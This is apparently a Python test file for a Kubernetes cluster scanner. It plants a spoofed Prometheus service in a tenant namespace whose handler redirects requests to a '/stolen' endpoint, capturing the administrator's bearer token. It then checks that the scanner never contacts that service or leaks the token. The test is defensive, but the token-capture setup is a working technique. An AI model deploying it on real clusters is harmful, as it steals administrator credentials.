"""A Service that looks like the cluster's Prometheus, in the tenant's namespace, gets no request and no credential."""
import http.server
import subprocess
import threading

import world

# The address of the testbed's node: the API server's service proxy leads to no loopback address.
ADDRESS = "10.99.0.1"
NAME = "prometheus-k8s"


class Pod(http.server.BaseHTTPRequestHandler):
    """Answers as the tenant's pod would: see elsewhere."""

    def do_GET(self):
        self.server.seen.append((self.path, self.headers.get("Authorization")))
        self.send_response(302)
        self.send_header("Location", f"http://{ADDRESS}:{self.server.elsewhere}/stolen")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


class Elsewhere(Pod):
    def do_GET(self):
        self.server.seen.append((self.path, self.headers.get("Authorization")))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_POST = do_GET


class PrometheusService(world.TenantCheck):
    def serve(self, handler):
        server = http.server.ThreadingHTTPServer((ADDRESS, 0), handler)
        server.seen = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server

    def setUp(self):
        self.elsewhere, self.pod = self.serve(Elsewhere), self.serve(Pod)
        self.pod.elsewhere = self.elsewhere.server_port
        labels = {"app.kubernetes.io/name": "prometheus", "app.kubernetes.io/part-of": "openshift-monitoring",
                  "operated-prometheus": "true", "prometheus": "k8s"}
        place = f"/api/v1/namespaces/{world.TENANT}"
        world.done("tenant", "POST", f"{place}/services", {
            "metadata": {"name": NAME, "labels": labels},
            "spec": {"ports": [{"name": "web", "port": 9090, "targetPort": self.pod.server_port}]}})
        uid = world.add_pod("tenant", world.TENANT, f"{NAME}-0", ready=True, podIP=ADDRESS,
                            state={"running": {"startedAt": world.ago(600)}})
        target = {"kind": "Pod", "namespace": world.TENANT, "name": f"{NAME}-0", "uid": uid}
        world.done("tenant", "POST", f"{place}/endpoints", {
            "metadata": {"name": NAME, "labels": labels},
            "subsets": [{"addresses": [{"ip": ADDRESS, "targetRef": target}],
                         "ports": [{"name": "web", "port": self.pod.server_port}]}]})

    def test_an_administrators_client_would_bring_the_token_elsewhere(self):
        for port in ("9090", "web"):
            subprocess.run(["kubectl", "get", "--raw", f"/api/v1/namespaces/{world.TENANT}/services/http:{NAME}:{port}"
                            "/proxy/api/v1/query?query=1"], capture_output=True, check=False)
        self.assertTrue(self.pod.seen)
        self.assertIn(("/stolen", f"Bearer {world.token('admin')}"), self.elsewhere.seen)

    def test_a_scan_asks_it_nothing_by_any_transport(self):
        for transport in ("exec", "proxy", "auto"):
            with self.subTest(transport):
                run = self.world.scan(transport)
                self.assertEqual((self.pod.seen, self.elsewhere.seen), ([], []))
                self.assertEqual(self.others(run), self.others(self.world.honest["proxy"]))
                self.assertNotIn(world.token("admin").encode(), run.out + run.err + run.csv + run.json)
                self.assertIn(f"'{world.TENANT}/{NAME}:9090' was not asked", " ".join(run.coverage["notes"]))
